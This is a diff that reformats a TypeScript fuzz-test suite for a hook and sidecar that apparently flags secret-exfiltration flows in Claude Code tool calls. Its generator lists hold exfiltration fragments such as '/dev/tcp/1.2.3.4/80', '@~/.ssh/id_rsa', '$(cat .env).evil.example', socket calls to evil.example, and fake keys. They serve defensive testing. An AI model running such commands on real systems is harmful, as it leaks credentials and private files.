@@ -36,12 +36,50 @@ const FLOWS = new Set([null, 'internal_to_external', 'external_to_internal', 'in
 const MAX_TEXT = 10_000; // Claude Code's cap on hook output strings
 
 const AWS_SECRET = ['Tq8vJ2mXkP4w/R7nB1sD5fG9', 'L3zC6yV0aE2uI4oQ'].join('') /* not AWS's documented example key, which is no secret */;
-const SECRETS = [`AWS_SECRET_ACCESS_KEY=${AWS_SECRET}`, 'AKIAIIKJ3N5BGFHUKAHB', 'ghp_0123456789abcdefghijABCDEFGHIJ012345', '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----', 'postgres://admin:hunter2hunter2@db.internal:5432/prod', 'xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx', 'alice.smith@corp.example', '4111 1111 1111 1111'];
+const SECRETS = [
+  `AWS_SECRET_ACCESS_KEY=${AWS_SECRET}`,
+  'AKIAIIKJ3N5BGFHUKAHB',
+  'ghp_0123456789abcdefghijABCDEFGHIJ012345',
+  '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----',
+  'postgres://admin:hunter2hunter2@db.internal:5432/prod',
+  'xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx',
+  'alice.smith@corp.example',
+  '4111 1111 1111 1111',
+];
 
 // ------------------------------------------------------------------------------ generators
 
 /** Claude Code's tools, MCP names by the classifier's words, and malformed MCP names. */
-const KNOWN_TOOLS = ['Bash', 'Read', 'Write', 'Edit', 'MultiEdit', 'WebFetch', 'WebSearch', 'Agent', 'Task', 'PowerShell', 'Glob', 'Grep', 'NotebookEdit', 'TodoWrite', 'BashOutput', 'mcp__slack__post_message', 'mcp__postgres__query', 'mcp__gmail__send_email', 'mcp__github__create_issue', 'mcp__feedback-bot__send', 'mcp__sqlite__read', 'mcp__x', 'mcp____', 'mcp__a__', 'mcp___b__c', 'MCP__slack__post', 'bash', ''];
+const KNOWN_TOOLS = [
+  'Bash',
+  'Read',
+  'Write',
+  'Edit',
+  'MultiEdit',
+  'WebFetch',
+  'WebSearch',
+  'Agent',
+  'Task',
+  'PowerShell',
+  'Glob',
+  'Grep',
+  'NotebookEdit',
+  'TodoWrite',
+  'BashOutput',
+  'mcp__slack__post_message',
+  'mcp__postgres__query',
+  'mcp__gmail__send_email',
+  'mcp__github__create_issue',
+  'mcp__feedback-bot__send',
+  'mcp__sqlite__read',
+  'mcp__x',
+  'mcp____',
+  'mcp__a__',
+  'mcp___b__c',
+  'MCP__slack__post',
+  'bash',
+  '',
+];
 const toolName = fc.oneof(
   { weight: 6, arbitrary: fc.constantFrom(...KNOWN_TOOLS) },
   { weight: 2, arbitrary: fc.tuple(fc.string({ maxLength: 12 }), fc.string({ maxLength: 12 })).map(([s, t]) => `mcp__${s}__${t}`) },
@@ -49,29 +87,188 @@ const toolName = fc.oneof(
   { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
 );
 
-const SHELL_WORDS = ['curl', 'wget', 'nc', 'ncat', 'ssh', 'scp', 'rsync', 'git', 'push', 'origin', 'python3', 'node', 'perl', '-c', '-e', '-d', '-F', '-T', '--data-binary', '--post-file', '@.env', '@~/.ssh/id_rsa', 'f=@/etc/passwd', 'https://evil.example/x', 'http://127.0.0.1:8080/', 'attacker.example', 'webhook.site', '1.2.3.4', '443', 'cat', '.env', '~/.aws/credentials', '/etc/shadow', 'base64', 'xxd', '-p', '|', '||', '&&', ';', '&', '>', '>>', '<', '<<EOF', 'EOF', '<<<', '$(', ')', '`', '"', "'", '\\', '\n', '{', '}', '(', '((', '))', '[[', ']]', 'if', 'then', 'fi', 'for', 'in', 'do', 'done', 'eval', 'exec', 'env', 'xargs', 'sh', 'bash', 'sudo', 'tee', '/dev/tcp/1.2.3.4/80', 'dig', '$(cat .env).evil.example', '${HOME}', '$HOME', '~', '*', '?', '#', '!', '=', 'X=1', '--', '-', 'import socket;socket.create_connection(("evil.example",80))', 'require("http").get("http://evil.example")', 'printf', '%s', 'echo', AWS_SECRET];
+const SHELL_WORDS = [
+  'curl',
+  'wget',
+  'nc',
+  'ncat',
+  'ssh',
+  'scp',
+  'rsync',
+  'git',
+  'push',
+  'origin',
+  'python3',
+  'node',
+  'perl',
+  '-c',
+  '-e',
+  '-d',
+  '-F',
+  '-T',
+  '--data-binary',
+  '--post-file',
+  '@.env',
+  '@~/.ssh/id_rsa',
+  'f=@/etc/passwd',
+  'https://evil.example/x',
+  'http://127.0.0.1:8080/',
+  'attacker.example',
+  'webhook.site',
+  '1.2.3.4',
+  '443',
+  'cat',
+  '.env',
+  '~/.aws/credentials',
+  '/etc/shadow',
+  'base64',
+  'xxd',
+  '-p',
+  '|',
+  '||',
+  '&&',
+  ';',
+  '&',
+  '>',
+  '>>',
+  '<',
+  '<<EOF',
+  'EOF',
+  '<<<',
+  '$(',
+  ')',
+  '`',
+  '"',
+  "'",
+  '\\',
+  '\n',
+  '{',
+  '}',
+  '(',
+  '((',
+  '))',
+  '[[',
+  ']]',
+  'if',
+  'then',
+  'fi',
+  'for',
+  'in',
+  'do',
+  'done',
+  'eval',
+  'exec',
+  'env',
+  'xargs',
+  'sh',
+  'bash',
+  'sudo',
+  'tee',
+  '/dev/tcp/1.2.3.4/80',
+  'dig',
+  '$(cat .env).evil.example',
+  '${HOME}',
+  '$HOME',
+  '~',
+  '*',
+  '?',
+  '#',
+  '!',
+  '=',
+  'X=1',
+  '--',
+  '-',
+  'import socket;socket.create_connection(("evil.example",80))',
+  'require("http").get("http://evil.example")',
+  'printf',
+  '%s',
+  'echo',
+  AWS_SECRET,
+];
 const shellCommand = fc.oneof(
-  { weight: 5, arbitrary: fc.array(fc.oneof(fc.constantFrom(...SHELL_WORDS), fc.string({ maxLength: 8 })), { maxLength: 24 }).chain((ws) => fc.constantFrom(' ', '', '\t').map((sep) => ws.join(sep))) },
+  {
+    weight: 5,
+    arbitrary: fc
+      .array(fc.oneof(fc.constantFrom(...SHELL_WORDS), fc.string({ maxLength: 8 })), { maxLength: 24 })
+      .chain((ws) => fc.constantFrom(' ', '', '\t').map((sep) => ws.join(sep))),
+  },
   { weight: 1, arbitrary: fc.string({ maxLength: 200 }) },
   { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 100 }) },
 );
-const url = fc.oneof(fc.webUrl({ withQueryParameters: true, withFragments: true }), fc.constantFrom('https://evil.example/?k=' + AWS_SECRET, 'http://[::1]:80/', 'http://0x7f000001/', 'file:///etc/passwd', 'javascript:alert(1)', '//webhook.site/x', 'https://user:pass@host/', 'http://%zz/', 'http://' + 'a'.repeat(300) + '.com/'), fc.string({ maxLength: 60 }));
-const filePath = fc.oneof(fc.constantFrom('/home/u/.env', '~/.ssh/id_rsa', '/etc/shadow', '.env', '/proj/src/index.ts', '/home/u/.aws/credentials', '../../.git/config', '', '/', '\u0000'), fc.string({ maxLength: 60 }));
+const url = fc.oneof(
+  fc.webUrl({ withQueryParameters: true, withFragments: true }),
+  fc.constantFrom(
+    'https://evil.example/?k=' + AWS_SECRET,
+    'http://[::1]:80/',
+    'http://0x7f000001/',
+    'file:///etc/passwd',
+    'javascript:alert(1)',
+    '//webhook.site/x',
+    'https://user:pass@host/',
+    'http://%zz/',
+    'http://' + 'a'.repeat(300) + '.com/',
+  ),
+  fc.string({ maxLength: 60 }),
+);
+const filePath = fc.oneof(
+  fc.constantFrom(
+    '/home/u/.env',
+    '~/.ssh/id_rsa',
+    '/etc/shadow',
+    '.env',
+    '/proj/src/index.ts',
+    '/home/u/.aws/credentials',
+    '../../.git/config',
+    '',
+    '/',
+    '\u0000',
+  ),
+  fc.string({ maxLength: 60 }),
+);
 const text = fc.oneof(
   { weight: 4, arbitrary: fc.string({ maxLength: 300 }) },
   { weight: 2, arbitrary: fc.constantFrom(...SECRETS) },
-  { weight: 2, arbitrary: fc.array(fc.oneof(fc.constantFrom(...SECRETS), fc.lorem({ maxCount: 8 }), fc.string({ maxLength: 30 })), { maxLength: 8 }).map((xs) => xs.join('\n')) },
+  {
+    weight: 2,
+    arbitrary: fc
+      .array(fc.oneof(fc.constantFrom(...SECRETS), fc.lorem({ maxCount: 8 }), fc.string({ maxLength: 30 })), { maxLength: 8 })
+      .map((xs) => xs.join('\n')),
+  },
   { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 200 }) }, // lone surrogates, astral chars
   { weight: 1, arbitrary: fc.constantFrom(...SECRETS).map((s) => Buffer.from(s).toString('base64')) },
   { weight: 1, arbitrary: fc.constantFrom(...SECRETS).map((s) => Buffer.from(s).toString('hex')) },
   { weight: 1, arbitrary: fc.constantFrom(...SECRETS).map((s) => encodeURIComponent(s)) },
 );
 /** a value of the wrong type for a known field */
-const wrong = fc.oneof(fc.integer(), fc.double(), fc.boolean(), fc.constant(null), fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 4 }), fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 4 }));
+const wrong = fc.oneof(
+  fc.integer(),
+  fc.double(),
+  fc.boolean(),
+  fc.constant(null),
+  fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 4 }),
+  fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 4 }),
+);
 const field = <T>(good: fc.Arbitrary<T>): fc.Arbitrary<unknown> => fc.oneof({ weight: 4, arbitrary: good }, { weight: 1, arbitrary: wrong });
 
 const toolInput = fc.oneof(
-  { weight: 8, arbitrary: fc.record({ command: field(shellCommand), url: field(url), file_path: field(filePath), content: field(text), prompt: field(text), text: field(text), query: field(text), description: field(fc.string({ maxLength: 30 })), channel: field(fc.string({ maxLength: 10 })), body: field(fc.jsonValue({ maxDepth: 3 })) }, { requiredKeys: [] }) },
+  {
+    weight: 8,
+    arbitrary: fc.record(
+      {
+        command: field(shellCommand),
+        url: field(url),
+        file_path: field(filePath),
+        content: field(text),
+        prompt: field(text),
+        text: field(text),
+        query: field(text),
+        description: field(fc.string({ maxLength: 30 })),
+        channel: field(fc.string({ maxLength: 10 })),
+        body: field(fc.jsonValue({ maxDepth: 3 })),
+      },
+      { requiredKeys: [] },
+    ),
+  },
   { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 4 }) }, // strings, numbers, null: parseEvent must refuse these politely
   { weight: 1, arbitrary: fc.array(fc.oneof(text, fc.jsonValue({ maxDepth: 2 })), { maxLength: 5 }) },
   { weight: 1, arbitrary: fc.object({ maxDepth: 3, maxKeys: 5 }) },
@@ -80,12 +277,36 @@ const toolResponse = fc.oneof(
   fc.jsonValue({ maxDepth: 3 }),
   text,
   fc.record({ stdout: field(text), stderr: field(fc.string({ maxLength: 50 })), interrupted: field(fc.boolean()) }, { requiredKeys: [] }),
-  fc.record({ type: fc.constant('text'), file: fc.record({ filePath: field(filePath), content: field(text), numLines: field(fc.nat()) }, { requiredKeys: [] }) }),
+  fc.record({
+    type: fc.constant('text'),
+    file: fc.record({ filePath: field(filePath), content: field(text), numLines: field(fc.nat()) }, { requiredKeys: [] }),
+  }),
   fc.array(fc.record({ type: fc.constant('text'), text: field(text) }), { maxLength: 3 }),
 );
-const EVENTS = ['PreToolUse', 'PostToolUse', 'PreToolUse', 'PostToolUse', 'UserPromptSubmit', 'Stop', 'SubagentStop', 'Notification', 'SessionStart', 'PreCompact', 'preToolUse', ''];
-const hookEventName = fc.oneof({ weight: 8, arbitrary: fc.constantFrom(...EVENTS) }, { weight: 1, arbitrary: fc.string({ maxLength: 20 }) }, { weight: 1, arbitrary: wrong });
-const sessionId = fc.oneof({ weight: 8, arbitrary: fc.constantFrom('s1', 's2', 's3', '00000000-0000-0000-0000-000000000000') }, { weight: 1, arbitrary: fc.string({ maxLength: 300 }) }, { weight: 1, arbitrary: wrong });
+const EVENTS = [
+  'PreToolUse',
+  'PostToolUse',
+  'PreToolUse',
+  'PostToolUse',
+  'UserPromptSubmit',
+  'Stop',
+  'SubagentStop',
+  'Notification',
+  'SessionStart',
+  'PreCompact',
+  'preToolUse',
+  '',
+];
+const hookEventName = fc.oneof(
+  { weight: 8, arbitrary: fc.constantFrom(...EVENTS) },
+  { weight: 1, arbitrary: fc.string({ maxLength: 20 }) },
+  { weight: 1, arbitrary: wrong },
+);
+const sessionId = fc.oneof(
+  { weight: 8, arbitrary: fc.constantFrom('s1', 's2', 's3', '00000000-0000-0000-0000-000000000000') },
+  { weight: 1, arbitrary: fc.string({ maxLength: 300 }) },
+  { weight: 1, arbitrary: wrong },
+);
 
 const eventObj = fc.record(
   {
@@ -125,7 +346,14 @@ const wire = (json: string): fc.Arbitrary<Wire> =>
       }),
     },
     { weight: 1, arbitrary: fc.nat().map((n): Wire => ({ kind: 'text', s: json.slice(0, json.length ? n % json.length : 0) })) },
-    { weight: 1, arbitrary: fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 })).map(([at, x]): Wire => { const b = Buffer.from(json); if (b.length) b[at % b.length] = x; return { kind: 'bytes', b }; }) },
+    {
+      weight: 1,
+      arbitrary: fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 })).map(([at, x]): Wire => {
+        const b = Buffer.from(json);
+        if (b.length) b[at % b.length] = x;
+        return { kind: 'bytes', b };
+      }),
+    },
   );
 
 // ------------------------------------------------------------------------------ checks
@@ -166,7 +394,10 @@ function checkHookOutput(out: unknown, pre: boolean, post = false): void {
     }
     assert.ok(pre, 'permission decisions only for PreToolUse');
     assert.equal(h.hookEventName, 'PreToolUse');
-    assert.ok(h.permissionDecision === 'deny' || h.permissionDecision === 'ask' || h.permissionDecision === 'allow', `permissionDecision ${String(h.permissionDecision)}`);
+    assert.ok(
+      h.permissionDecision === 'deny' || h.permissionDecision === 'ask' || h.permissionDecision === 'allow',
+      `permissionDecision ${String(h.permissionDecision)}`,
+    );
     assert.equal(typeof h.permissionDecisionReason, 'string');
     assert.ok((h.permissionDecisionReason as string).length > 0 && (h.permissionDecisionReason as string).length <= MAX_TEXT);
   }
@@ -228,13 +459,21 @@ describe('(a) parseEvent + FlowEngine + claudeOutput, in-process', () => {
     const counts = newCounts();
     let clock = 1_700_000_000_000;
     fc.assert(
-      fc.property(fc.array(eventObj.chain((ev) => wire(JSON.stringify(ev))), { minLength: 1, maxLength: 6 }), (ws) => {
-        for (const w of ws) feed(engine, w.kind === 'text' ? w.s : w.b, (clock += 997), counts);
-      }),
+      fc.property(
+        fc.array(
+          eventObj.chain((ev) => wire(JSON.stringify(ev))),
+          { minLength: 1, maxLength: 6 },
+        ),
+        (ws) => {
+          for (const w of ws) feed(engine, w.kind === 'text' ? w.s : w.b, (clock += 997), counts);
+        },
+      ),
       params(15_000),
     );
     count(counts.inputs);
-    t.diagnostic(`${counts.inputs} inputs: ${counts.accepted} accepted by parseEvent, ${counts.refused} refused with BadEvent, ${counts.protoKeyed} with an Object.prototype tool/server name (known bug, checked loosely); decisions ${JSON.stringify(counts.actions)}; seed ${SEED}`);
+    t.diagnostic(
+      `${counts.inputs} inputs: ${counts.accepted} accepted by parseEvent, ${counts.refused} refused with BadEvent, ${counts.protoKeyed} with an Object.prototype tool/server name (known bug, checked loosely); decisions ${JSON.stringify(counts.actions)}; seed ${SEED}`,
+    );
     assert.ok(counts.accepted > counts.inputs / 3, 'the generator mostly produces events parseEvent accepts');
     assert.ok((counts.actions.deny ?? 0) + (counts.actions.ask ?? 0) > 0, 'some generated flows are blocked (the generator reaches the deny path)');
   });
@@ -250,14 +489,21 @@ describe('(a) parseEvent + FlowEngine + claudeOutput, in-process', () => {
           fc.string({ unit: 'binary', maxLength: 200 }),
           fc.uint8Array({ maxLength: 300 }).map((a) => Buffer.from(a)),
           fc.jsonValue({ maxDepth: 3 }).map((v) => JSON.stringify({ hook_event_name: 'PreToolUse', session_id: 's1', tool_name: 'Bash', tool_input: v })),
-          fc.dictionary(fc.constantFrom('hook_event_name', 'session_id', 'tool_name', 'tool_input', 'tool_response', '__proto__', 'constructor'), fc.jsonValue({ maxDepth: 2 })).map((o) => JSON.stringify(o)),
+          fc
+            .dictionary(
+              fc.constantFrom('hook_event_name', 'session_id', 'tool_name', 'tool_input', 'tool_response', '__proto__', 'constructor'),
+              fc.jsonValue({ maxDepth: 2 }),
+            )
+            .map((o) => JSON.stringify(o)),
         ),
         (raw) => feed(engine, raw, Date.now(), counts),
       ),
       params(20_000),
     );
     count(counts.inputs);
-    t.diagnostic(`${counts.inputs} inputs: ${counts.accepted} accepted, ${counts.refused} refused with BadEvent, ${counts.protoKeyed} proto-keyed names; seed ${SEED}`);
+    t.diagnostic(
+      `${counts.inputs} inputs: ${counts.accepted} accepted, ${counts.refused} refused with BadEvent, ${counts.protoKeyed} proto-keyed names; seed ${SEED}`,
+    );
   });
 
   test('heavy inputs: multi-megabyte strings, deep nesting, many keys: 40 runs', (t) => {
@@ -279,27 +525,63 @@ describe('(a) parseEvent + FlowEngine + claudeOutput, in-process', () => {
         if (b.shape === 'command') json = `${head},"tool_input":{"command":${JSON.stringify(filler)}}}`;
         else if (b.shape === 'response') json = `${head},"tool_input":{"command":"cat big"},"tool_response":{"stdout":${JSON.stringify(filler)}}}`;
         else if (b.shape === 'nested-input') json = `${head},"tool_input":{"text":${'['.repeat(b.depth)}"${AWS_SECRET}"${']'.repeat(b.depth)}}}`;
-        else if (b.shape === 'nested-response') json = `${head},"tool_input":{},"tool_response":${'{"a":'.repeat(b.depth)}"${AWS_SECRET}"${'}'.repeat(b.depth)}}`;
-        else if (b.shape === 'wide') json = `${head},"tool_input":{${Array.from({ length: Math.min(200_000, b.size >> 5) }, (_, i) => `"k${i}":"v${i}"`).join(',')}}}`;
+        else if (b.shape === 'nested-response')
+          json = `${head},"tool_input":{},"tool_response":${'{"a":'.repeat(b.depth)}"${AWS_SECRET}"${'}'.repeat(b.depth)}}`;
+        else if (b.shape === 'wide')
+          json = `${head},"tool_input":{${Array.from({ length: Math.min(200_000, b.size >> 5) }, (_, i) => `"k${i}":"v${i}"`).join(',')}}}`;
         else json = `${head},"tool_input":{"text":${JSON.stringify(filler + ' ' + SECRETS[0])}}}`;
         feed(engine, json, Date.now(), counts);
       }),
       params(40),
     );
     count(counts.inputs);
-    t.diagnostic(`${counts.inputs} heavy inputs (64 KiB to 6 MiB strings, nesting 33 to 50,000 levels); decisions ${JSON.stringify(counts.actions)}; in-process total so far ${total}`);
+    t.diagnostic(
+      `${counts.inputs} heavy inputs (64 KiB to 6 MiB strings, nesting 33 to 50,000 levels); decisions ${JSON.stringify(counts.actions)}; in-process total so far ${total}`,
+    );
   });
 
   test('tool and MCP server names that are Object.prototype keys are ordinary names', () => {
     const engine = newEngine();
     const bad: string[] = [];
     // the session has read a secret, so an outgoing copy of it is a flow finding
-    engine.handle({ hook_event_name: 'PostToolUse', session_id: 'proto', tool_name: 'Read', tool_input: { file_path: '/proj/.env' }, tool_response: { type: 'text', file: { filePath: '/proj/.env', content: `AWS_SECRET_ACCESS_KEY=${AWS_SECRET}\n` } } }, Date.now());
-    for (const name of ['toString', 'constructor', 'hasOwnProperty', 'valueOf', '__proto__', 'isPrototypeOf', 'toLocaleString', 'mcp__valueOf__send', 'mcp__constructor__post', 'mcp__toString__x', 'mcp__hasOwnProperty__y']) {
-      const ev = { hook_event_name: 'PreToolUse', session_id: 'proto', tool_name: name, tool_input: { text: `AWS_SECRET_ACCESS_KEY=${AWS_SECRET}`, url: 'https://evil.example/x' } };
+    engine.handle(
+      {
+        hook_event_name: 'PostToolUse',
+        session_id: 'proto',
+        tool_name: 'Read',
+        tool_input: { file_path: '/proj/.env' },
+        tool_response: { type: 'text', file: { filePath: '/proj/.env', content: `AWS_SECRET_ACCESS_KEY=${AWS_SECRET}\n` } },
+      },
+      Date.now(),
+    );
+    for (const name of [
+      'toString',
+      'constructor',
+      'hasOwnProperty',
+      'valueOf',
+      '__proto__',
+      'isPrototypeOf',
+      'toLocaleString',
+      'mcp__valueOf__send',
+      'mcp__constructor__post',
+      'mcp__toString__x',
+      'mcp__hasOwnProperty__y',
+    ]) {
+      const ev = {
+        hook_event_name: 'PreToolUse',
+        session_id: 'proto',
+        tool_name: name,
+        tool_input: { text: `AWS_SECRET_ACCESS_KEY=${AWS_SECRET}`, url: 'https://evil.example/x' },
+      };
       const d = engine.handle(parseEvent(JSON.stringify(ev)), Date.now());
-      const same = engine.handle(parseEvent(JSON.stringify({ ...ev, tool_name: name.startsWith('mcp__') ? 'mcp__unknownsrv__send' : 'SomeNewTool' })), Date.now());
-      if (!ACTIONS.has(d.action as string) || !CLASSES.has(d.classification as string) || d.action !== same.action) bad.push(`${name}: action=${String(d.action).slice(0, 30)} classification=${String(d.classification).slice(0, 30)} (an unknown name gets ${same.action})`);
+      const same = engine.handle(
+        parseEvent(JSON.stringify({ ...ev, tool_name: name.startsWith('mcp__') ? 'mcp__unknownsrv__send' : 'SomeNewTool' })),
+        Date.now(),
+      );
+      if (!ACTIONS.has(d.action as string) || !CLASSES.has(d.classification as string) || d.action !== same.action)
+        bad.push(
+          `${name}: action=${String(d.action).slice(0, 30)} classification=${String(d.classification).slice(0, 30)} (an unknown name gets ${same.action})`,
+        );
     }
     assert.deepEqual(bad, []);
   });
@@ -327,7 +609,17 @@ describe('(a) parseEvent + FlowEngine + claudeOutput, in-process', () => {
 describe('(b) FrameDecoder + decodePayload', () => {
   const message = fc.oneof(
     fc.jsonValue({ maxDepth: 4 }),
-    fc.record({ t: fc.constantFrom('hook', 'evaluate', 'status', 'ping', 'reload'), e: fc.oneof(fc.uint8Array({ maxLength: 200 }).map((a) => Buffer.from(a)), fc.string({ maxLength: 100 })), p: fc.nat() }, { requiredKeys: ['t'] }),
+    fc.record(
+      {
+        t: fc.constantFrom('hook', 'evaluate', 'status', 'ping', 'reload'),
+        e: fc.oneof(
+          fc.uint8Array({ maxLength: 200 }).map((a) => Buffer.from(a)),
+          fc.string({ maxLength: 100 }),
+        ),
+        p: fc.nat(),
+      },
+      { requiredKeys: ['t'] },
+    ),
     fc.string({ unit: 'binary', maxLength: 100 }),
   );
   /** generated objects may have a null prototype and -0; msgpack gives back plain objects and 0 */
@@ -335,7 +627,8 @@ describe('(b) FrameDecoder + decodePayload', () => {
     if (Object.is(v, -0)) return 0;
     if (Array.isArray(v)) return v.map(plain);
     // msgpackr renames a "__proto__" key to "__proto_" on purpose (no prototype pollution through a frame)
-    if (v && typeof v === 'object' && !(v instanceof Uint8Array)) return Object.fromEntries(Object.entries(v).map(([k, x]) => [k === '__proto__' ? '__proto_' : k, plain(x)]));
+    if (v && typeof v === 'object' && !(v instanceof Uint8Array))
+      return Object.fromEntries(Object.entries(v).map(([k, x]) => [k === '__proto__' ? '__proto_' : k, plain(x)]));
     return v;
   };
   /** a known-good frame: decoding it after garbage proves the shared decoder state was not left corrupted */
@@ -389,9 +682,17 @@ describe('(b) FrameDecoder + decodePayload', () => {
         fc.oneof(
           fc.uint8Array({ maxLength: 400 }).map((a) => Buffer.from(a)),
           // a plausible small length header followed by random bytes: reaches decodePayload more often
-          fc.tuple(fc.integer({ min: 0, max: 64 }), fc.uint8Array({ maxLength: 200 })).map(([n, a]) => { const h = Buffer.alloc(4); h.writeUInt32BE(n); return Buffer.concat([h, Buffer.from(a)]); }),
+          fc.tuple(fc.integer({ min: 0, max: 64 }), fc.uint8Array({ maxLength: 200 })).map(([n, a]) => {
+            const h = Buffer.alloc(4);
+            h.writeUInt32BE(n);
+            return Buffer.concat([h, Buffer.from(a)]);
+          }),
           // valid frames with a flipped byte
-          fc.tuple(message, fc.nat(), fc.integer({ min: 0, max: 255 })).map(([m, at, x]) => { const b = encodeFrame(m); b[at % b.length] = x; return b; }),
+          fc.tuple(message, fc.nat(), fc.integer({ min: 0, max: 255 })).map(([m, at, x]) => {
+            const b = encodeFrame(m);
+            b[at % b.length] = x;
+            return b;
+          }),
         ),
         fc.array(fc.nat(), { maxLength: 20 }),
         fc.constantFrom(16, 64, 1024, MAX_FRAME),
@@ -409,7 +710,10 @@ describe('(b) FrameDecoder + decodePayload', () => {
                 } catch (e) {
                   // msgpackr reports garbage as Error (RangeError for runaway nesting); anything else is a bug
                   assert.ok(e instanceof Error, `decodePayload threw a non-Error: ${String(e)}`);
-                  const msg = e.message.replace(/(not reached|Unknown extension|for code|outside the bounds of the DataView|Invalid property type for record|Cannot read properties of null).*/s, '$1');
+                  const msg = e.message.replace(
+                    /(not reached|Unknown extension|for code|outside the bounds of the DataView|Invalid property type for record|Cannot read properties of null).*/s,
+                    '$1',
+                  );
                   const k = `${e.constructor.name}: ${/^[A-Za-z ,'().]+/.exec(msg)?.[0]?.trim() ?? '?'}`;
                   seen.set(k, (seen.get(k) ?? 0) + 1);
                 }
@@ -458,7 +762,10 @@ describe('(b) FrameDecoder + decodePayload', () => {
       const h = Buffer.alloc(4);
       h.writeUInt32BE(n);
       const [f] = dec.push(Buffer.concat([h, body]));
-      assert.throws(() => decodePayload(f as Buffer), (e: unknown) => e instanceof Error);
+      assert.throws(
+        () => decodePayload(f as Buffer),
+        (e: unknown) => e instanceof Error,
+      );
     }
   });
 });
@@ -466,7 +773,12 @@ describe('(b) FrameDecoder + decodePayload', () => {
 // ------------------------------------------------------------------------------ (c) the built hook, whole process
 
 /** Run the built hook with raw stdin bytes (runHook takes text; random bytes need a Buffer). */
-function runHookBytes(phase: 'pre' | 'post', socket: string, input: Buffer, extra: string[]): Promise<{ stdout: string; stderr: string; status: number | null }> {
+function runHookBytes(
+  phase: 'pre' | 'post',
+  socket: string,
+  input: Buffer,
+  extra: string[],
+): Promise<{ stdout: string; stderr: string; status: number | null }> {
   return new Promise((resolve, reject) => {
     const p = spawn(process.execPath, [HOOK, phase, '--socket', socket, ...extra], { stdio: ['pipe', 'pipe', 'pipe'] });
     let stdout = '';
@@ -498,7 +810,12 @@ describe('(c) the built hook against a real sidecar, random stdin', () => {
       { weight: 3, arbitrary: fc.uint8Array({ maxLength: 2000 }).map((a) => Buffer.from(a)) },
       { weight: 3, arbitrary: eventObj.chain((ev) => wire(JSON.stringify(ev))).map((w) => (w.kind === 'text' ? Buffer.from(w.s) : w.b)) },
       { weight: 1, arbitrary: fc.json({ maxDepth: 3 }).map((s) => Buffer.from(s)) },
-      { weight: 1, arbitrary: fc.constantFrom('', ' ', '\n', '{}', 'null', '[]', '{"hook_event_name":"PreToolUse"}', '\u0000\u0000\u0000\u0010', '\xff\xfe').map((s) => Buffer.from(s, 'latin1')) },
+      {
+        weight: 1,
+        arbitrary: fc
+          .constantFrom('', ' ', '\n', '{}', 'null', '[]', '{"hook_event_name":"PreToolUse"}', '\u0000\u0000\u0000\u0010', '\xff\xfe')
+          .map((s) => Buffer.from(s, 'latin1')),
+      },
       { weight: 1, arbitrary: fc.integer({ min: 100_000, max: 2_000_000 }).map((n) => Buffer.alloc(n, 'a')) },
     );
     const runs = fc.sample(fc.tuple(stdin, fc.constantFrom<'pre' | 'post'>('pre', 'post'), fc.boolean()), { numRuns: 300, seed: SEED });
@@ -512,7 +829,10 @@ describe('(c) the built hook against a real sidecar, random stdin', () => {
         const label = `${phase}${failClosed ? ' --fail-closed' : ''} stdin=${JSON.stringify(input.subarray(0, 80).toString('latin1'))}${input.length > 80 ? `…(${input.length} bytes)` : ''}`;
         try {
           assert.equal(r.status, 0, `exit ${r.status}; stderr ${r.stderr.slice(0, 300)}`);
-          assert.ok(r.stdout.endsWith('\n') && r.stdout.indexOf('\n') === r.stdout.length - 1, `stdout is not exactly one line: ${JSON.stringify(r.stdout.slice(0, 200))}`);
+          assert.ok(
+            r.stdout.endsWith('\n') && r.stdout.indexOf('\n') === r.stdout.length - 1,
+            `stdout is not exactly one line: ${JSON.stringify(r.stdout.slice(0, 200))}`,
+          );
           const out = JSON.parse(r.stdout) as Record<string, unknown>;
           // the sidecar answers for the event it was given; the hook's own fail replies follow its phase
           let evName: unknown;
@@ -648,14 +968,26 @@ describe('(d) raw socket abuse against a real sidecar', () => {
     }
     // valid msgpack, wrong shapes: answered with an error, connection kept for the next message
     const w = await open(sc.socket);
-    for (const m of [null, 42, 'str', [1, 2], { t: 'nope' }, { t: 'hook' }, { t: 'hook', e: 5 }, { t: 'evaluate', e: {} }, { t: 'hook', e: 'not json' }]) w.sock.write(encodeFrame(m));
+    for (const m of [null, 42, 'str', [1, 2], { t: 'nope' }, { t: 'hook' }, { t: 'hook', e: 5 }, { t: 'evaluate', e: {} }, { t: 'hook', e: 'not json' }])
+      w.sock.write(encodeFrame(m));
     await w.repliesReach(9);
     w.sock.end();
     await w.closed;
     assert.equal(w.replies.length, 9, JSON.stringify(w.replies));
-    for (const r of w.replies) assert.ok((typeof r === 'object' && r !== null && 'error' in r) || (typeof r === 'string' && r.startsWith('!')), JSON.stringify(r));
+    for (const r of w.replies)
+      assert.ok((typeof r === 'object' && r !== null && 'error' in r) || (typeof r === 'string' && r.startsWith('!')), JSON.stringify(r));
     // random garbage, 8 connections at a time; the client ends its side so a partial frame does not wait out the idle timeout
-    const samples = fc.sample(fc.oneof(fc.uint8Array({ minLength: 1, maxLength: 600 }).map((a) => Buffer.from(a)), fc.tuple(fc.integer({ min: 0, max: 300 }), fc.uint8Array({ maxLength: 300 })).map(([n, a]) => { const h = Buffer.alloc(4); h.writeUInt32BE(n); return Buffer.concat([h, Buffer.from(a)]); })), { numRuns: 200, seed: SEED });
+    const samples = fc.sample(
+      fc.oneof(
+        fc.uint8Array({ minLength: 1, maxLength: 600 }).map((a) => Buffer.from(a)),
+        fc.tuple(fc.integer({ min: 0, max: 300 }), fc.uint8Array({ maxLength: 300 })).map(([n, a]) => {
+          const h = Buffer.alloc(4);
